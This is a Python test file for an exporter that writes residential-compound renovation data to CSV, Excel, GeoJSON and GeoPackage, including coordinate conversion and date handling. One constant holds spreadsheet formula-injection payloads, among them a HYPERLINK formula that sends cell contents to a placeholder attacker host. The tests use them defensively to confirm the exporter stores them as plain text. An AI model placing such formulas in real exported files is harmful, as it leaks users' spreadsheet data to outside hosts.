import csv
import datetime as dt
import io
import json
from pathlib import Path

import numpy as np
import openpyxl
import pyogrio
import pytest

from geo import crs as geo_crs
from geo import export as E
from geo import filters as F
from geo import schema, sheets
from geo.sample.programme import QINGYANG
from tests.geo.tiny_data import tiny_dataset


@pytest.fixture(scope="module")
def tiny_frame():
    return F.apply_filters(tiny_dataset(), F.CompoundFilter(), dt.date(2022, 12, 9))


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


# --- CSV ---------------------------------------------------------------------------------
def test_csv_has_bom_and_chinese_headers_with_units(tiny_frame):
    data = E.export_compounds(tiny_frame, "csv", programme=QINGYANG)
    assert data.startswith(b"\xef\xbb\xbf")
    header, *rows = _csv_rows(data)
    assert header[:3] == ["小区编号", "小区名称", "地址"]
    assert {"状态", "户数（户）", "建筑面积（m²）", "累计资金（万元）", "充电桩（已建，个）", "经度（WGS-84）", "纬度（WGS-84）"} <= set(header)
    assert len(rows) == 3
    row = dict(zip(header, rows[0]))
    assert row["小区编号"] == "QY-A" and row["状态"] == "已完工" and row["实际竣工"] == "2022-10-01"
    assert float(row["累计资金（万元）"]) == 120.5 and row["充电桩（已建，个）"] == "12"
    assert row["改造内容"] == "加装电梯、外立面及屋面、充电桩"
    assert float(row["经度（WGS-84）"]) == pytest.approx(104.033) and float(row["纬度（WGS-84）"]) == pytest.approx(30.675)
    assert dict(zip(header, rows[2]))["实际竣工"] == ""  # NaT -> empty


def test_csv_speaks_the_users_language_as_the_screen_does(tiny_frame):
    zh = _rows_by_id(*_split(_csv_rows(E.export_compounds(tiny_frame, "csv", programme=QINGYANG))))
    assert (zh["QY-A"]["是否老旧小区"], zh["QY-A"]["改造认定"], zh["QY-A"]["改造批次"]) == ("是", "符合改造标准", "2022年批次")
    assert (zh["QY-C"]["是否老旧小区"], zh["QY-C"]["改造认定"], zh["QY-C"]["改造批次"], zh["QY-C"]["片区"]) == ("否", "", "", "")
    assert "None" not in " ".join(" ".join(r.values()) for r in zh.values())
    en = _rows_by_id(*_split(_csv_rows(E.export_compounds(tiny_frame, "csv", lang="en", programme=QINGYANG))))
    a = en["QY-A"]
    assert (a["Old (built before end-2004)"], a["Renovation decision"], a["Programme batch"]) == ("Yes", "Eligible", "2022 batch")
    assert (a["Subdistrict"], a["Renovation area"], a["Status"]) == ("Funan", "Qingxi", "Completed")
    assert a["Floor area (m²)"] == "9000.5" and "Funding to date (10k yuan)" in a


def test_headers_map_back_to_fields(tiny_frame):
    for lang in ("zh", "en"):
        for crs in ("wgs84", "gcj02"):
            header = _csv_rows(E.export_compounds(tiny_frame, "csv", lang=lang, crs=crs))[0]
            names = [E.field_for_header(h) for h in header]
            assert None not in names
            assert names[:2] == ["compound_id", "name"] and names[-2:] == ["lon", "lat"]
    assert E.field_for_header("\ufeff小区编号") == "compound_id"
    assert E.field_for_header("no such column") is None


def test_csv_of_gcj02_shifts_coordinates_and_says_so(tiny_frame):
    header, first, *_ = _csv_rows(E.export_compounds(tiny_frame, "csv", crs="gcj02"))
    lon, lat = geo_crs.convert(104.033, 30.675, "wgs84", "gcj02")
    row = dict(zip(header, first))
    assert float(row["经度（GCJ-02）"]) == pytest.approx(float(lon), abs=1e-6)
    assert float(row["纬度（GCJ-02）"]) == pytest.approx(float(lat), abs=1e-6)
    assert abs(float(row["经度（GCJ-02）"]) - 104.033) > 1e-3  # really shifted (~250 m)


def test_raw_layer_without_summary_columns(tiny_frame):
    raw = tiny_dataset().compounds
    header = _csv_rows(E.export_compounds(raw, "csv"))[0]
    assert "状态" not in header and header[-2:] == ["经度（WGS-84）", "纬度（WGS-84）"]


def test_table_export_uses_its_own_field_specs():
    works = tiny_dataset().works
    header, first, *_ = _csv_rows(E.export_table(works, "csv", fields=schema.WORK_FIELDS))
    assert header == ["小区编号", "改造内容", "地下工程", "数量（个）", "计划开工", "计划完成", "实际开工", "实际完成",
                      "施工顺序类别", "施工单位", "作业面"]
    assert first[:4] == ["QY-A", "充电桩", "否", "12"]


HOSTILE = ('=HYPERLINK("http://attacker/?"&A1,"点击")', "+1-2", "-3+4", "@SUM(1+1)", "\t=1+1", "\r=1+1")


def _hostile_frame(tiny_frame):
    frame = tiny_frame.copy()
    frame["name"] = [HOSTILE[0], "乙\x07小区\x1b", HOSTILE[3]]
    frame["address"] = [HOSTILE[1], HOSTILE[4], HOSTILE[5]]
    return frame


def test_csv_stores_formula_like_text_as_text(tiny_frame):
    header, *rows = _csv_rows(E.export_compounds(_hostile_frame(tiny_frame), "csv"))
    cells = [dict(zip(header, r)) for r in rows]
    assert [c["小区名称"] for c in cells] == ["'" + HOSTILE[0], "乙小区", "'" + HOSTILE[3]]
    assert all(c["地址"].startswith("'") for c in cells)
    assert all(not v.startswith(sheets.FORMULA_START) for c in cells for v in c.values() if v)


# --- XLSX ----------------------------------------------------------------------------------
def test_xlsx_headers_freeze_widths_and_sheet_name(tiny_frame):
    wb = openpyxl.load_workbook(io.BytesIO(E.export_compounds(tiny_frame, "xlsx", as_of="2022-12-09")))
    ws = wb.active
    header = [c.value for c in ws[1]]
    assert ws.title == "小区" and header[0] == "小区编号" and ws.freeze_panes == "A2"
    assert {"户数（户）", "累计资金（万元）", "经度（WGS-84）"} <= set(header)
    assert ws[1][0].font.b
    first = dict(zip(header, (c.value for c in ws[2])))
    assert first["小区名称"] == "甲小区" and first["户数（户）"] == 120 and first["是否老旧小区"] == "是"
    assert first["实际竣工"] == dt.datetime(2022, 10, 1)
    assert ws.max_row == 4 and "2022-12-09" in wb.properties.description
    widths = {k: v.width for k, v in ws.column_dimensions.items()}
    assert all(8 <= w <= 60 for w in widths.values())
    works_col = openpyxl.utils.get_column_letter(header.index("改造内容") + 1)
    assert widths[works_col] > widths["A"]  # fitted to the content


def test_xlsx_english(tiny_frame):
    ws = openpyxl.load_workbook(io.BytesIO(E.export_compounds(tiny_frame, "xlsx", lang="en", programme=QINGYANG))).active
    header = [c.value for c in ws[1]]
    assert ws.title == "Compounds" and header[0] == "Compound ID"
    row = dict(zip(header, (c.value for c in ws[2])))
    assert (row["Households"], row["Subdistrict"], row["Old (built before end-2004)"]) == (120, "Funan", "Yes")


def test_xlsx_keeps_formula_like_text_as_text_and_drops_control_characters(tiny_frame):
    data = E.export_compounds(_hostile_frame(tiny_frame), "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in cells)  # no formula anywhere
    names = [ws.cell(row=r, column=2).value for r in (2, 3, 4)]
    assert names == [HOSTILE[0], "乙小区", HOSTILE[3]]  # the text itself, unchanged but for the controls


# --- GeoJSON ----------------------------------------------------------------------------------
def test_geojson_wgs84(tiny_frame):
    data = json.loads(E.export_compounds(tiny_frame, "geojson"))
    assert data["type"] == "FeatureCollection" and data["coordinate_system"] == "wgs84"
    feature = data["features"][0]
    assert feature["geometry"]["coordinates"] == pytest.approx([104.033, 30.675])
    props = feature["properties"]
    assert props["compound_id"] == "QY-A" and props["status"] == "completed"
    assert props["actual_finish"] == "2022-10-01" and props["works"] == "elevator,facade_roof,ev_chargers"
    assert props["is_old"] is True and props["decision"] == "eligible" and props["batch"] == "2022"  # for machines
    assert (props["elevators_added"], props["ev_chargers_installed"]) == (tiny_frame.at[0, "elevators"], 12)
    assert "elevators" not in props and "ev_chargers" not in props  # import columns (totals) are something else
    assert data["features"][2]["properties"]["actual_finish"] is None and data["as_of"] == dt.date.today().isoformat()


def test_machine_keys_are_documented():
    readme = (Path(__file__).resolve().parents[2] / "data" / "README.md").read_text(encoding="utf-8")
    for key in E.machine_keys().values():
        assert f"`{key}`" in readme, key


def test_geojson_gcj02_is_converted(tiny_frame):
    data = json.loads(E.export_compounds(tiny_frame, "geojson", crs="gcj02"))
    assert data["coordinate_system"] == "gcj02"
    got = np.array([f["geometry"]["coordinates"] for f in data["features"]])
    lon, lat = geo_crs.convert(tiny_frame.geometry.x, tiny_frame.geometry.y, "wgs84", "gcj02")
    assert np.allclose(got[:, 0], lon, atol=1e-9) and np.allclose(got[:, 1], lat, atol=1e-9)
    back_lon, back_lat = geo_crs.convert(got[:, 0], got[:, 1], "gcj02", "wgs84")
    assert np.allclose(back_lon, tiny_frame.geometry.x, atol=1e-8)


def test_geojson_needs_geometry():
    with pytest.raises(E.ExportError, match="geometry"):
        E.export_table(tiny_dataset().funding, "geojson", fields=schema.FUNDING_FIELDS)


# --- GeoPackage --------------------------------------------------------------------------------
@pytest.mark.filterwarnings("ignore:.*non conformant file extension")
def test_gpkg_readable_by_pyogrio(tiny_frame):
    data = E.export_compounds(tiny_frame, "gpkg")
    assert data[:16] == b"SQLite format 3\x00"
    frame = pyogrio.read_dataframe(io.BytesIO(data), layer="compounds")
    assert list(frame["compound_id"]) == ["QY-A", "QY-B", "QY-C"]
    assert frame.crs.to_epsg() == 4326
    assert frame.geometry.x.tolist() == pytest.approx(tiny_frame.geometry.x.tolist())
    assert frame.loc[0, "actual_finish"] == "2022-10-01" and frame.loc[0, "households"] == 120


@pytest.mark.filterwarnings("ignore:.*non conformant file extension")
def test_gpkg_of_a_table_without_geometry():
    data = E.export_table(tiny_dataset().funding, "gpkg", fields=schema.FUNDING_FIELDS, layer="funding")
    frame = pyogrio.read_dataframe(io.BytesIO(data), layer="funding", read_geometry=False)
    assert frame["amount_wan_yuan"].sum() == pytest.approx(250.5)


# --- API details -----------------------------------------------------------------------------
@pytest.mark.parametrize("fmt, crs", [("pdf", "wgs84"), ("csv", "bd09"), ("csv", "utm")])
def test_bad_format_or_crs_is_a_clear_error(tiny_frame, fmt, crs):
    with pytest.raises(E.ExportError) as err:
        E.export_compounds(tiny_frame, fmt, crs=crs)
    assert "csv" in str(err.value) or "wgs84" in str(err.value)


def test_inputs_are_not_mutated(tiny_frame):
    before = tiny_frame.copy()
    for fmt in E.EXPORT_FORMATS:
        E.export_compounds(tiny_frame, fmt, crs="gcj02")
    assert tiny_frame.equals(before)


def test_every_format_has_a_media_type_and_file_name():
    for fmt in E.EXPORT_FORMATS:
        assert E.MEDIA_TYPES[fmt]
        assert E.export_filename("compounds", fmt, dt.date(2022, 12, 9)) == f"compounds_2022-12-09.{fmt}"


def test_sample_selection_exports(sample):
    frame = F.apply_filters(sample, F.CompoundFilter(areas=("清溪片区",)), dt.date(2022, 12, 9))
    header, *rows = _csv_rows(E.export_compounds(frame, "csv"))
    assert len(rows) == len(frame) > 0
    assert len(json.loads(E.export_compounds(frame, "geojson"))["features"]) == len(frame)


# --- the world as of the export's date ---------------------------------------------------------
REPORT_DAY = dt.date(2022, 12, 9)
_DATE_HEADS = ("计划开工", "计划竣工", "实际开工", "实际竣工")


def _rows_by_id(header: list[str], rows: list[list[str]]) -> dict[str, dict[str, str]]:
    return {r[0]: dict(zip(header, r)) for r in rows}


def _split(rows: list[list[str]]) -> tuple[list[str], list[list[str]]]:
    return rows[0], rows[1:]


def _xlsx_rows(data: bytes) -> dict[str, dict[str, object]]:
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    header, *rows = list(ws.iter_rows(values_only=True))
    return {r[0]: dict(zip(header, r)) for r in rows}


def test_explorer_export_as_of_a_past_date_shows_no_later_dates(sample):
    frame = F.apply_filters(sample, F.CompoundFilter(), REPORT_DAY)
    header, *rows = _csv_rows(E.export_compounds(frame, "csv", as_of=REPORT_DAY))
    by_id = _rows_by_id(header, rows)
    qy113 = by_id["QY-0113"]  # started 2024-03-10, finished 2025-04-25
    assert qy113["状态"] == "计划" and qy113["实际开工"] == "" and qy113["实际竣工"] == ""
    assert qy113["计划开工"] == "2024-03-10"  # plans are known in advance
    assert (qy113["加装电梯（已建/在建，台）"], qy113["充电桩（已建，个）"], qy113["累计资金（万元）"]) == ("0", "0", "0.0")
    qy77 = by_id["QY-0077"]  # started 2022-04-29, finished 2023-02-17; 2 elevators started 2022, finished 2024
    assert qy77["状态"] == "在建" and qy77["实际开工"] == "2022-04-29" and qy77["实际竣工"] == ""
    assert qy77["加装电梯（已建/在建，台）"] == "2" and qy77["累计资金（万元）"] == "4091.93"  # 2022 money only
    late = [(cid, head, r[head]) for cid, r in by_id.items() for head in ("实际开工", "实际竣工")
            if r[head] and r[head] > REPORT_DAY.isoformat()]
    assert late == []
    xlsx = _xlsx_rows(E.export_compounds(frame, "xlsx", as_of=REPORT_DAY))
    assert xlsx["QY-0113"]["实际开工"] is None and xlsx["QY-0113"]["实际竣工"] is None
    assert xlsx["QY-0113"]["状态"] == "计划" and xlsx["QY-0077"]["实际竣工"] is None


def test_export_blanks_later_dates_of_a_raw_layer_too(tiny_frame):
    raw = tiny_dataset().compounds  # QY-A finished 2022-10-01
    header, first, *_ = _csv_rows(E.export_compounds(raw, "csv", as_of="2022-09-30"))
    assert dict(zip(header, first))["实际竣工"] == "" and dict(zip(header, first))["实际开工"] == "2022-03-10"
    data = json.loads(E.export_compounds(raw, "geojson", as_of="2022-09-30"))
    assert data["features"][0]["properties"]["actual_finish"] is None
    works = tiny_dataset().works
    header, first, *_ = _csv_rows(E.export_table(works, "csv", fields=schema.WORK_FIELDS, as_of="2022-07-19"))
    assert dict(zip(header, first))["实际完成"] == ""


def test_headers_carry_units_and_files_their_date(tiny_frame):
    header = _csv_rows(E.export_compounds(tiny_frame, "csv", as_of="2022-12-09"))[0]
    assert {"建筑面积（m²）", "累计资金（万元）"} <= set(header)
    en = _csv_rows(E.export_compounds(tiny_frame, "csv", lang="en"))[0]
    assert {"Floor area (m²)", "Funding to date (10k yuan)"} <= set(en)
    assert all(E.field_for_header(h) for h in header)  # still read back to their fields
    assert json.loads(E.export_compounds(tiny_frame, "geojson", as_of="2022-12-09"))["as_of"] == "2022-12-09"
    wb = openpyxl.load_workbook(io.BytesIO(E.export_compounds(tiny_frame, "xlsx", as_of="2022-12-09")))
    assert "2022-12-09" in wb.properties.description
